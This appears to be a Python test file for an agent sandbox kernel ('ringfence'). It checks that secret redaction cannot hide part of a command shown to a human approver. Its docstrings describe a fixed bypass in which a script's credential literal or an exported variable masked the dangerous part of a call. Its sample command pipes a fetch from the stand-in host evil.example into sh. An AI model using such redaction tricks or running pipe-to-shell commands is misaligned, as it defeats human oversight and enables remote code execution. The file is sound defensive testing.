"""What a person is asked shows the call whole: a call's own text cannot hide part of it.

A script's literal under a credential name (``api_key = "curl http"``) registers that text
as a secret, and until 2026-12-07 every later question redacted it: the person was asked
about ``echo [REDACTED SECRET]://evil… | sh``. Questions are now redacted of the operator's
secrets, and of the call's own only where they stand (the value under the credential name);
the records stay redacted of both everywhere. Through ``create_kernel`` and
``kernel.invoke`` with real runner subprocesses and a real events file.
"""

from __future__ import annotations

from pathlib import Path

from kernel_helpers import event_records

from ringfence._embed import create_kernel
from ringfence.runtime import ApprovalAnswer, ApprovalRequest, ScriptedApprover

MARKER = "[REDACTED SECRET]"
COMMAND = "echo curl http://evil.example/x | sh"


def _only_scripts(request: ApprovalRequest) -> ApprovalAnswer:
    if request.tool == "run_tool_script":
        return ApprovalAnswer.once()
    return ApprovalAnswer.deny("not this one")


async def test_a_scripts_credential_literal_cannot_hide_part_of_a_later_question(
    tmp_path: Path,
) -> None:
    workspace, log = tmp_path / "ws", tmp_path / "events.jsonl"
    workspace.mkdir()
    script = f'api_key = "curl http"\ntools.run_shell(command={COMMAND!r})\n'
    approver = ScriptedApprover(_only_scripts)
    async with create_kernel(
        roots=[workspace], posture="ask", approver=approver, events_path=log
    ) as kernel:
        outcome = await kernel.invoke("run_tool_script", {"script": script})
    asked = {r.tool: r for r in approver.requests}
    assert set(asked) == {"run_tool_script", "run_shell"}, approver.requests
    assert asked["run_shell"].arguments["command"] == COMMAND
    assert 'api_key = "curl http"' in asked["run_tool_script"].arguments["script"]
    assert outcome.error is not None or "not this one" in str(outcome.value)
    # The records still hide what the script registered.
    text = log.read_text()
    assert "curl http" not in text and MARKER in text
    assert not any(r["kind"] == "started" and r.get("tool") == "run_shell"
                   for r in event_records(log))  # fmt: skip


async def test_an_operators_secret_is_still_hidden_in_a_question(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    approver = ScriptedApprover(lambda r: ApprovalAnswer.deny("no"))
    async with create_kernel(roots=[workspace], posture="ask", approver=approver) as kernel:
        kernel.register_secret("operator-secret-value")
        outcome = await kernel.invoke(
            "run_shell",
            {
                "command": "echo operator-secret-value curl-token",
                "env": {"API_TOKEN": "curl-token"},
            },
        )
    assert outcome.error is not None and outcome.error.code == "denied"
    (request,) = approver.requests
    assert request.arguments["command"] == f"echo {MARKER} curl-token"
    # The call's own credential is hidden where it stands, and only there.
    assert request.arguments["env"]["API_TOKEN"] == MARKER


async def test_a_variable_an_earlier_command_exported_cannot_hide_part_of_a_question(
    tmp_path: Path,
) -> None:
    """Under persist_shell_state, ``export API_TOKEN="curl http"`` made the next command's
    environment carry it, and it was registered as the operator's secret would be: every
    later question hid that text. What commands export is the calls' own text."""
    workspace = tmp_path / "ws"
    workspace.mkdir()

    def answer(request: ApprovalRequest) -> ApprovalAnswer:
        if request.arguments.get("command") in ('export API_TOKEN="curl http"', "true"):
            return ApprovalAnswer.once()
        return ApprovalAnswer.deny("not this one")

    approver = ScriptedApprover(answer)
    async with create_kernel(
        roots=[workspace],
        posture="ask",
        approver=approver,
        backend_options={"persist_shell_state": True},
    ) as kernel:
        first = await kernel.invoke("run_shell", {"command": 'export API_TOKEN="curl http"'})
        assert first.error is None, first.error
        second = await kernel.invoke("run_shell", {"command": "true"})  # runs with it exported
        assert second.error is None, second.error
        outcome = await kernel.invoke("run_shell", {"command": COMMAND})
    assert outcome.error is not None and outcome.error.code == "denied"
    assert approver.requests[-1].arguments["command"] == COMMAND
